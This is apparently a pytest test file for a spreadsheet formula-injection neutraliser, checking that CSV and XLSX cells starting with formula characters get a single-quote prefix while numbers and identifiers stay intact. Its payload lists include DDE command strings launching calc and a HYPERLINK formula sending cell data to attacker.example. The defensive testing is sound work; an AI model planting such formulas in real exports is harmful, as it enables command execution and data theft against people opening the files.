"""Formula injection: every dangerous leading character is neutralised, numbers stay numbers."""

import datetime as dt
from decimal import Decimal

import pytest

from xblocks.core.cells import csv_cell, neutralise_cell, xlsx_cell

PAYLOADS = [
    "=cmd|'/c calc'!A1",
    '=HYPERLINK("http://attacker.example/?d="&A1,"x")',
    "@SUM(1+1)",
    "+1+1",
    "-1+1",
    "\t=1+1",
    "\r=1+1",
    "\x00=1+1",
    "\x01=1+1",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_dangerous_cell_is_prefixed_with_a_single_quote_never_a_tab(payload):
    value = neutralise_cell(payload)
    assert value == "'" + payload
    assert not value.startswith("\t")


@pytest.mark.parametrize("payload", PAYLOADS)
def test_an_xlsx_cell_never_starts_with_a_formula_character(payload):
    value = xlsx_cell(payload)
    assert value.startswith("'")
    assert "\x00" not in value and "\x01" not in value


@pytest.mark.parametrize("value", ["Alice", "KF-2026-00001", "", "a=b", "Léa Benali", "ليلى"])
def test_harmless_text_is_unchanged(value):
    assert neutralise_cell(value) == value


@pytest.mark.parametrize("value", [-3, -2.5, Decimal("-1.5"), 0, 12])
def test_numbers_are_kept_numeric_even_when_negative(value):
    assert neutralise_cell(value) == value
    assert csv_cell(value) == value


def test_dates_are_written_as_iso_text_in_csv():
    assert csv_cell(dt.date(2026, 6, 30)) == "2026-06-30"
    assert csv_cell(dt.datetime(2026, 6, 30, 8, 0, tzinfo=dt.UTC)) == "2026-06-30T08:00:00Z"


def test_none_and_booleans_become_text():
    assert neutralise_cell(None) == ""
    assert neutralise_cell(True) == "true"


# One neutraliser for the package: the roster CSV, the exports, the employers' bulk answers and the
# hours import all decide with core.cells, so they agree on every one of these.
DISPUTED = ["|cmd", "%1+1", "\x00=1+1", "\x02\x03=1", "\x01", "\n=1+1", "=1", "@A1", "-1", "+1"]


@pytest.mark.parametrize("payload", DISPUTED)
def test_every_user_of_the_neutraliser_agrees(payload):
    from xblocks.certification import imports, roster  # pylint: disable=import-outside-toplevel
    from xblocks.core.cells import looks_like_formula  # pylint: disable=import-outside-toplevel

    assert looks_like_formula(payload)
    assert neutralise_cell(payload) == "'" + payload
    assert roster.neutralise(payload) == "'" + payload
    assert imports.looks_like_formula is looks_like_formula


@pytest.mark.parametrize("value", ["-1+1", "E-1001", "KF-2026-00001", "cloud-ops-v1", "00421", "+33.1", "عامل-7", 42])
def test_plausible_identifiers_are_kept_as_they_are(value):
    from xblocks.core.cells import identifier_cell, plausible_identifier  # pylint: disable=import-outside-toplevel

    assert plausible_identifier(value)
    assert identifier_cell(value) == value


@pytest.mark.parametrize(
    "value", ["=1+1", "@SUM(A1)", "cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "E 1001", "\x00E1", "%A1", "-", "a(b)"]
)
def test_implausible_identifiers_are_neutralised(value):
    from xblocks.core.cells import identifier_cell, plausible_identifier  # pylint: disable=import-outside-toplevel

    assert not plausible_identifier(value)
    assert identifier_cell(value) == neutralise_cell(value)
